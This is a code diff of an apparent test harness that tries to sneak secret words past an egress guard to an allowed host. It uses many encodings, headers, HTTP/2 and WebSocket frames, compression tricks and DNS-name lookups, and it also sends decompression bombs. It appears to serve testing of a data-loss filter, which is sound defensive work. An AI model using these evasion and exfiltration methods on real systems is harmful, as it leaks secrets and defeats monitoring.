@@ -1,60 +1,126 @@
-"""Ways to carry secrets out, tried one by one on a host that is allowed: prints how many of each kind were stopped.
+"""Ways to carry secrets out, each an encoding in a place, tried one by one on a host that is allowed: prints how many of each were stopped.
 
-What the server saw is judged by the test; here a request counts as stopped if it was not answered with 200.
+What the server got is judged by judge.py; here a request counts as stopped if it was not answered with 200. With WAYS=once each
+way is tried with the first secret alone, which shows without the guard that it arrives.
 """
 import base64
 import codecs
+import collections
+import concurrent.futures
 import gzip
-import http.client
 import io
 import json
 import os
-import socket
-import ssl
 import sys
 import tarfile
+import time
 import urllib.parse
 import zlib
 
 import brotli
 import zstandard
 
+from clients import ask, lookup, two, websocket
+
 SECRETS = [word for word in os.environ["WORDS"].split() if word]
-HOST = "allowed.example"
-context = ssl.create_default_context()
+ONCE = os.environ.get("WAYS") == "once"
+noise = os.urandom(12_000).hex().encode()
+filler = b".- " * 8000
 
 
-def ask(method="POST", path="/repo/x", body=None, headers=None, chunks=None):
-    link = http.client.HTTPSConnection(HOST, timeout=9, context=context)
-    try:
-        if chunks is not None:
-            link.request(method, path, body=iter(chunks), headers=headers or {}, encode_chunked=True)
-        else:
-            link.request(method, path, body=body, headers=headers or {})
-        return link.getresponse().status in (200, 501)
-    except OSError:
-        return False
-    except http.client.HTTPException:
-        return False
-    finally:
-        link.close()
+def b64(s, before=b""):
+    return base64.b64encode(before + s.encode())
 
 
-def two_encodings(body):
-    link = http.client.HTTPSConnection(HOST, timeout=9, context=context)
-    link.putrequest("POST", "/repo/x")
-    for name, value in (("Content-Length", str(len(body))), ("Content-Encoding", "identity"), ("Content-Encoding", "br")):
-        link.putheader(name, value)
-    link.endheaders(body)
-    return link.getresponse().status == 200
+def each(form, between=""):
+    return lambda s: between.join(form.format(ord(c)) for c in s).encode()
 
 
-def lookup(name):
-    try:
-        socket.getaddrinfo(name, 443)
-        return True
-    except OSError:
-        return False
+# What fits into a name, a line or a field; what does not.
+NARROW = {
+    "raw": str.encode,
+    "base64": b64,
+    "base64 shifted by one": lambda s: b64(s, b"x"),
+    "base64 shifted by two": lambda s: b64(s, b"xy"),
+    "base64 for URLs": lambda s: base64.urlsafe_b64encode(b"?>" + s.encode()).rstrip(b"="),
+    "base32": lambda s: base64.b32encode(s.encode()).rstrip(b"="),
+    "hex": lambda s: s.encode().hex().encode(),
+    "hex in capitals": lambda s: s.encode().hex().upper().encode(),
+    "hex with colons": lambda s: s.encode().hex(":").encode(),
+    "percent": each("%{:02X}"),
+    "reversed": lambda s: s[::-1].encode(),
+    "rot13": lambda s: codecs.encode(s, "rot13").encode(),
+}
+WIDE = NARROW | {
+    "base64 in lines": lambda s: base64.encodebytes(b"z" * 50 + s.encode()),
+    "utf-16": lambda s: s.encode("utf-16-le"),
+    "utf-16, the high byte first": lambda s: s.encode("utf-16-be"),
+    "json escapes": each("\\u{:04x}"),
+    "escapes of C": each("\\x{:02x}"),
+    "octal escapes": each("\\{:03o}"),
+    "escapes of newer languages": each("\\u{{{:x}}}"),
+    "entities": each("&#{};"),
+    "entities in hex": each("&#x{:X};"),
+    "quoted-printable": each("={:02X}"),
+    "decimal numbers": each("{}", ", "),
+    "numbers in hex": each("0x{:02x}", ","),
+    "a line for each letter": lambda s: "\n".join(s).encode(),
+    "escaped line breaks": lambda s: "%0d%0a".join(s).encode(),
+    "escaped quotes": lambda s: "\\u0022\\u002c".join(s).encode(),
+    "a list of parts": lambda s: json.dumps([s[at : at + 4] for at in range(0, len(s), 4)]).encode(),
+}
+FEW = {name: WIDE[name] for name in ("raw", "base64", "hex", "percent", "json escapes", "entities", "a list of parts")}
+
+
+def post(path, body, told=None):
+    return ask("POST", path, body, {"Content-Encoding": told} if told else {})
+
+
+def multipart(p):
+    return b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + p + b"\r\n--b--\r\n"
+
+
+def form(path, body):
+    return ask("POST", path, body, {"Content-Type": "application/x-www-form-urlencoded"})
+
+
+def split(payload, size):
+    return [payload[at : at + size] for at in range(0, len(payload), size)]
+
+
+def upload(path, p):
+    return ask("POST", path, multipart(p), {"Content-Type": "multipart/form-data; boundary=b"})
+
+
+# By place: which encodings, and how a payload is sent there.
+PLACES = {
+    "a body": (WIDE, lambda path, p: post(path, b"x " + p)),
+    "a body in chunks of a byte": (FEW, lambda path, p: ask("POST", path, chunks=split(p, 1))),
+    "a body in chunks of seven": (WIDE, lambda path, p: ask("POST", path, chunks=split(b"x " + p, 7))),
+    "within a large body": (WIDE, lambda path, p: post(path, filler + p + filler)),
+    "over a seam of 64 KiB": (FEW, lambda path, p: post(path, (filler * 3)[: (1 << 16) - 7] + p + filler)),
+    "a file of a form": (WIDE, upload),
+    "a field of a form": (NARROW, lambda path, p: form(path, b"a=1&b=" + p + b"&c=2")),
+    "json": (NARROW, lambda path, p: post(path, json.dumps({"a": [1, p.decode()]}).encode())),
+    "gzip": (WIDE, lambda path, p: post(path, gzip.compress(noise[:900] + b" " + p), "gzip")),
+    "deflate": (FEW, lambda path, p: post(path, zlib.compress(b"x " + p), "deflate")),
+    "br": (FEW, lambda path, p: post(path, brotli.compress(noise[:900] + b" " + p), "br")),
+    "zstd": (FEW, lambda path, p: post(path, zstandard.compress(noise[:900] + b" " + p), "zstd")),
+    "gzip, told nobody": (FEW, lambda path, p: ask("POST", path, chunks=split(gzip.compress(b"x " + p), 5))),
+    "a parameter": (NARROW, lambda path, p: ask("GET", f"{path}?a=1&b={p.decode()}&c=2")),
+    "a path": (NARROW, lambda path, p: ask("GET", f"{path}/x/{p.decode()}/y")),
+    "a header": (NARROW, lambda path, p: ask("GET", path, headers={"X-Note": b"x " + p})),
+    "a cookie": (NARROW, lambda path, p: ask("GET", path, headers={"Cookie": b"a=1; b=" + p})),
+    "basic auth": ({"raw": str.encode}, lambda path, p: ask("GET", path, headers={"Authorization": b"Basic " + b64("u:" + p.decode())})),
+    "a trailer": (NARROW, lambda path, p: ask("POST", path, b"x", {"Trailer": "X-Last"}, trailers=[(b"X-Last", p)])),
+    "frames of HTTP/2": (FEW, lambda path, p: two(b"POST", path.encode(), split(b"x " + p, 9))),
+    "a header of HTTP/2": (FEW, lambda path, p: two(b"GET", path.encode(), headers=[(b"x-note", p)])),
+    "a path of HTTP/2": ({"raw": str.encode, "hex": NARROW["hex"], "base32": NARROW["base32"]}, lambda path, p: two(b"GET", path.encode() + b"/" + p)),
+    "a trailer of HTTP/2": (NARROW, lambda path, p: two(b"POST", path.encode(), [b"x"], [(b"trailer", b"x-last")], [(b"x-last", p)])),
+    "a WebSocket": (FEW, lambda path, p: websocket(path, [(0x81, p)])),
+    "a WebSocket in parts": ({"raw": str.encode, "hex": NARROW["hex"]}, lambda path, p: websocket(path, [(0x02, p[:9]), (0x80, p[9:])])),
+    "a ping of a WebSocket": ({"raw": str.encode}, lambda path, p: websocket(path, [(0x89, p)])),
+}
 
 
 def tar(s):
@@ -64,15 +130,6 @@ def tar(s):
         info.size = len(s)
         t.addfile(info, io.BytesIO(s.encode()))
     return out.getvalue()
-
-
-def multipart(s):
-    return f'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n{s}\r\n--b--\r\n'.encode()
-
-
-def b64(s, before=b"", alphabet=None):
-    text = base64.b64encode(before + s.encode())
-    return text.translate(bytes.maketrans(b"+/", b"-_")) if alphabet else text
 
 
 def far(s):
@@ -88,89 +145,107 @@ def named(s):
     return out.getvalue()
 
 
-noise = os.urandom(40_000).hex().encode()
-WAYS = {
-    "raw body": lambda s: ask(body=b"x " + s.encode()),
-    "raw query": lambda s: ask("GET", "/repo/x?a=" + s),
-    "raw path": lambda s: ask("GET", "/repo/" + s),
-    "header": lambda s: ask("GET", headers={"X-Note": s}),
-    "cookie": lambda s: ask("GET", headers={"Cookie": "a=" + s}),
-    "user agent": lambda s: ask("GET", headers={"User-Agent": "x/1 " + s}),
-    "basic auth": lambda s: ask("GET", headers={"Authorization": "Basic " + b64("user:" + s).decode()}),
-    "json": lambda s: ask(body=json.dumps({"a": [1, s]})),
-    "json escaped": lambda s: ask(body='{"a":"' + "".join(f"\\u{ord(c):04x}" for c in s) + '"}'),
-    "form": lambda s: ask(body=urllib.parse.urlencode({"a": s})),
-    "multipart": lambda s: ask(body=multipart(s), headers={"Content-Type": "multipart/form-data; boundary=b"}),
-    "percent, all of it": lambda s: ask("GET", "/repo/x?a=" + "".join(f"%{ord(c):02X}" for c in s)),
-    "chunks of a byte": lambda s: ask(chunks=[bytes([c]) for c in s.encode()]),
-    "within a large body": lambda s: ask(body=noise + s.encode() + noise),
-    "over a seam of 64 KiB": lambda s: ask(body=b"y" * ((1 << 16) - 9) + s.encode() + noise),
-    "two headers": lambda s: ask("GET", headers={"X-A": s[: len(s) // 2], "X-B": s[len(s) // 2 :]}),
-    "two parameters": lambda s: ask("GET", f"/repo/x?a={s[:len(s) // 2]}&b={s[len(s) // 2:]}"),
-    "a list of parts": lambda s: ask(body=json.dumps([s[at : at + 4] for at in range(0, len(s), 4)])),
-    "base64": lambda s: ask(body=b64(s)),
-    "base64, shifted by one": lambda s: ask(body=b64(s, b"x")),
-    "base64, shifted by two": lambda s: ask(body=b64(s, b"xy")),
-    "base64 for URLs": lambda s: ask("GET", "/repo/x?a=" + b64(s, b"?>", True).decode().rstrip("=")),
-    "base64 in lines": lambda s: ask(body=base64.encodebytes(b"z" * 50 + s.encode())),
-    "base32": lambda s: ask(body=base64.b32encode(s.encode())),
-    "hex": lambda s: ask(body=s.encode().hex()),
-    "hex, upper case": lambda s: ask("GET", "/repo/x?a=" + s.encode().hex().upper()),
-    "reversed": lambda s: ask(body=s[::-1]),
-    "rot13": lambda s: ask(body=codecs.encode(s, "rot13")),
-    "utf-16": lambda s: ask(body=s.encode("utf-16-le")),
-    "a line for each letter": lambda s: ask(body="\n".join(s)),
-    "gzip": lambda s: ask(body=gzip.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "gzip"}),
-    "gzip, large": lambda s: ask(body=gzip.compress(noise + s.encode()), headers={"Content-Encoding": "gzip"}),
-    "deflate": lambda s: ask(body=zlib.compress(s.encode()), headers={"Content-Encoding": "deflate"}),
-    "br": lambda s: ask(body=brotli.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "br"}),
-    "br, large": lambda s: ask(body=brotli.compress(noise + s.encode() + noise, quality=4), headers={"Content-Encoding": "br"}),
-    "br, by bytes": lambda s: ask(chunks=[bytes([c]) for c in brotli.compress(s.encode() * 3)], headers={"Content-Encoding": "BR"}),
-    "br that is none": lambda s: ask(body=s.encode()[::-1], headers={"Content-Encoding": "br"}),
-    "zstd": lambda s: ask(body=zstandard.compress(noise[:900] + s.encode()), headers={"Content-Encoding": "zstd"}),
-    "zstd, large": lambda s: ask(body=zstandard.compress(noise + s.encode() + noise), headers={"Content-Encoding": "zstd"}),
-    "zstd, two frames": lambda s: ask(body=zstandard.compress(noise[:90]) + zstandard.compress(s.encode() * 3), headers={"Content-Encoding": "zstd"}),
-    "zstd, told nobody": lambda s: ask(chunks=[(z := zstandard.compress(s.encode() * 3))[:2], z[2:]]),
-    "zstd in a form": lambda s: ask(body=multipart("@").replace(b"@", zstandard.compress(s.encode() * 3))),
-    "zstd that refers back 128 MiB": lambda s: ask(body=far(s), headers={"Content-Encoding": "zstd"}),
-    "gzip, told nobody, after a byte": lambda s: ask(chunks=[(z := gzip.compress(s.encode()))[:1], z[1:2], z[2:]]),
-    "gzip in a form": lambda s: ask(body=multipart("@").replace(b"@", gzip.compress(s.encode()))),
-    "behind gzip": lambda s: ask(body=gzip.compress(b"x") + s.encode()),
-    "what begins as gzip": lambda s: ask(body=b"\x1f\x8b\x08\x00 it is none " + s.encode()),
-    "the name in gzip": lambda s: ask(body=named(s), headers={"Content-Encoding": "gzip"}),
-    "deflate, told nobody": lambda s: ask(body=zlib.compress(s.encode())),
-    "two encodings in two headers": lambda s: two_encodings(s[::-1].encode()),
-    "a coding of the transfer": lambda s: ask(headers={"Transfer-Encoding": "deflate, chunked"}, chunks=[zlib.compress(s.encode())[2:-4]]),
-    "a method": lambda s: ask(method=s),
-    "escaped line breaks": lambda s: ask(body="%0d%0a".join(s)),
-    "escaped quotes in json": lambda s: ask(body="\\u0022\\u002c".join(s)),
-    "escapes of C": lambda s: ask(body="".join(f"\\x{ord(c):02x}" for c in s)),
-    "utf-16, the high byte first": lambda s: ask(body=s.encode("utf-16-be")),
-    "a tar archive": lambda s: ask(body=tar(s)),
-    "another encoding": lambda s: ask(body=s.encode()[::-1], headers={"Content-Encoding": "compress"}),
-    "a name": lambda s: lookup(f"{s.encode().hex()[:60]}.{s.encode().hex()[60:] or 'x'}.wild.example"),
-    "a name, base32": lambda s: lookup(base64.b32encode(s.encode()).decode().strip("=").lower()[:60] + ".wild.example"),
-    "a name, by letters": lambda s: lookup(".".join(s) + ".wild.example"),
-    # What cannot be caught in principle, or is not.
-    "(not promised) thirds in three requests": lambda s: any([ask(body=s[at : at + len(s) // 3 + 1]) for at in range(0, len(s), len(s) // 3 + 1)]),
-    "(not promised) xor": lambda s: ask(body=bytes(c ^ 0x5A for c in s.encode())),
-    "(not promised) base64 twice": lambda s: ask(body=b64(b64(s).decode())),
+def halves(s):
+    return s[: len(s) // 2], s[len(s) // 2 :]
+
+
+def labels(s):
+    text = s.encode().hex()
+    return f"{text[:60]}.{text[60:] or 'x'}.wild.example"
+
+
+z = zstandard.compress
+# What is neither.
+OTHERS = {
+    "two headers": lambda path, s: ask("GET", path, headers=dict(zip(("X-A", "X-B"), halves(s)))),
+    "two parameters": lambda path, s: ask("GET", "{}?a={}&b={}".format(path, *halves(s))),
+    "two headers of HTTP/2": lambda path, s: two(b"GET", path.encode(), headers=[(b"x-a", halves(s)[0].encode()), (b"x-b", halves(s)[1].encode())]),
+    "user agent": lambda path, s: ask("GET", path, headers={"User-Agent": "x/1 " + s}),
+    "a referer": lambda path, s: ask("GET", path, headers={"Referer": f"https://{s}.example/"}),
+    "the name of a header": lambda path, s: ask("GET", path, headers={"X-" + s: "1"}),
+    "bearer": lambda path, s: ask("GET", path, headers={"Authorization": "Bearer " + s}),
+    "the type of a body": lambda path, s: ask("POST", path, b"x", {"Content-Type": "text/plain; x=" + s}),
+    "a name of a file in a form": lambda path, s: upload(path, b"x") and post(path, multipart(b"x").replace(b'="x"', b'="' + s.encode() + b'"')),
+    "gzip, large": lambda path, s: post(path, gzip.compress(noise + s.encode()), "gzip"),
+    "br, large": lambda path, s: post(path, brotli.compress(noise + s.encode() + noise, quality=4), "br"),
+    "br, by bytes": lambda path, s: ask("POST", path, chunks=split(brotli.compress(s.encode() * 3), 1), headers={"Content-Encoding": "BR"}),
+    "br that is none": lambda path, s: post(path, s.encode()[::-1], "br"),
+    "zstd, large": lambda path, s: post(path, z(noise + s.encode() + noise), "zstd"),
+    "zstd, two frames": lambda path, s: post(path, z(noise[:90]) + z(s.encode() * 3), "zstd"),
+    "zstd, told nobody": lambda path, s: ask("POST", path, chunks=[z(s.encode() * 3)[:2], z(s.encode() * 3)[2:]]),
+    "zstd in a form": lambda path, s: post(path, multipart(z(s.encode() * 3))),
+    "zstd that refers back 128 MiB": lambda path, s: post(path, far(s), "zstd"),
+    "gzip in a form": lambda path, s: post(path, multipart(gzip.compress(s.encode()))),
+    "behind gzip": lambda path, s: post(path, gzip.compress(b"x") + s.encode()),
+    "what begins as gzip": lambda path, s: post(path, b"\x1f\x8b\x08\x00 it is none " + s.encode()),
+    "the name in gzip": lambda path, s: post(path, named(s), "gzip"),
+    "deflate, told nobody": lambda path, s: post(path, zlib.compress(s.encode())),
+    "a coding of the transfer": lambda path, s: ask("POST", path, chunks=[zlib.compress(s.encode())[2:-4]], headers={"Transfer-Encoding": "deflate, chunked"}),
+    "a method": lambda path, s: ask(s, path),
+    "a tar archive": lambda path, s: post(path, tar(s)),
+    "another encoding": lambda path, s: post(path, s.encode()[::-1], "compress"),
 }
-print("clean", sum(ask(body=word) for word in ["hello", "no secret here", "A" * 100]), ask("GET", "/repo/fine?a=b"))
-total = stopped = 0
-for kind, way in WAYS.items():
-    caught = sum(not way(secret) for secret in SECRETS)
-    print(f"kind {kind}: {caught}/{len(SECRETS)}")
-    if not kind.startswith("("):
-        total, stopped = total + len(SECRETS), stopped + caught
-print(f"all {stopped}/{total}")
-# A bomb: a GiB in a MiB.
-bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
-parts = [bomb.compress(bytes(1 << 20)) for _ in range(256)] + [bomb.flush()]
-print("bomb", ask(body=b"".join(parts), headers={"Content-Encoding": "gzip"}))
-zeros = bytes(1 << 27)
-print("bomb of br", ask(body=brotli.compress(zeros, quality=4), headers={"Content-Encoding": "br"}))
-print("bomb of zstd", ask(body=zstandard.compress(zeros), headers={"Content-Encoding": "zstd"}))
-fine = b"nothing but ordinary text " * 9000
-print("fine", ask(body=brotli.compress(fine), headers={"Content-Encoding": "br"}), ask(body=zstandard.compress(fine), headers={"Content-Encoding": "zstd"}))
-sys.stdout.flush()
+NAMES = {
+    "hex": lambda s: lookup(labels(s)),
+    "base32": lambda s: lookup(base64.b32encode(s.encode()).decode().strip("=").lower()[:60] + ".wild.example"),
+    "letters": lambda s: lookup(".".join(s) + ".wild.example"),
+    "raw": lambda s: lookup(s.lower() + ".wild.example"),
+    "two labels": lambda s: lookup("{}.{}.wild.example".format(*halves(s.lower()))),
+    "reversed": lambda s: lookup(s[::-1].lower() + ".wild.example"),
+}
+# What cannot be caught in principle, or is not.
+BEYOND = {
+    "thirds in three requests": lambda path, s: any([post(path, s[at : at + len(s) // 3 + 1].encode()) for at in range(0, len(s), len(s) // 3 + 1)]),
+    "xor": lambda path, s: post(path, bytes(c ^ 0x5A for c in s.encode())),
+    "base64 twice": lambda path, s: post(path, b64(b64(s).decode())),
+}
+
+
+def corpus():
+    """Each way: its kind, its name, and what it does with a secret."""
+    for place, (encodings, send) in PLACES.items():
+        for encoding, encode in encodings.items():
+            yield place, f"{encoding} in {place}", lambda path, s, send=send, encode=encode: send(path, encode(s))
+    for name, way in OTHERS.items():
+        yield "in a way of its own", name, way
+    for name, way in NAMES.items():
+        yield "a name", f"{name} in a name", lambda path, s, way=way: way(s)
+    for name, way in BEYOND.items():
+        yield "(not promised)", name, way
+
+
+def main():
+    print("clean", sum(post("/sink/clean", word) for word in [b"hello", b"no secret here", b"A" * 100]), ask("GET", "/sink/clean?a=b"))
+    ways = list(corpus())
+    secrets = SECRETS[:1] if ONCE else SECRETS
+    begun = time.monotonic()
+    with concurrent.futures.ThreadPoolExecutor(4) as pool:
+        tries = [(kind, name, pool.submit(way, f"/sink/{number}", secret)) for number, (kind, name, way) in enumerate(ways) for secret in secrets]
+        kinds, through = collections.Counter(), []
+        for kind, name, tried in tries:
+            kinds[kind, not tried.result()] += 1
+            if tried.result():
+                through.append(name)
+    for kind in dict.fromkeys(kind for kind, _, _ in ways):
+        count = len({name for own, name, _ in ways if own == kind})
+        print(f"kind {kind}: {kinds[kind, True]}/{kinds[kind, True] + kinds[kind, False]}, {count} ways")
+    promised = len({name for kind, name, _ in ways if not kind.startswith("(")})
+    own = {name for kind, name, _ in ways if not kind.startswith("(")}
+    print(f"all: {promised} ways, {len(secrets)} secrets, {time.monotonic() - begun:.1f} s")
+    print("ways:", json.dumps([name for _, name, _ in ways]))
+    print("through:", json.dumps(collections.Counter(name for name in through if name in own)))
+    if ONCE:
+        return
+    # A bomb: a GiB in a MiB.
+    bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
+    parts = [bomb.compress(bytes(1 << 20)) for _ in range(256)] + [bomb.flush()]
+    print("bomb", post("/sink/bomb", b"".join(parts), "gzip"))
+    zeros = bytes(1 << 27)
+    print("bomb of br", post("/sink/bomb", brotli.compress(zeros, quality=4), "br"))
+    print("bomb of zstd", post("/sink/bomb", z(zeros), "zstd"))
+    fine = b"nothing but ordinary text " * 9000
+    print("fine", post("/sink/fine", brotli.compress(fine), "br"), post("/sink/fine", z(fine), "zstd"))
+    sys.stdout.flush()
+
+
+main()
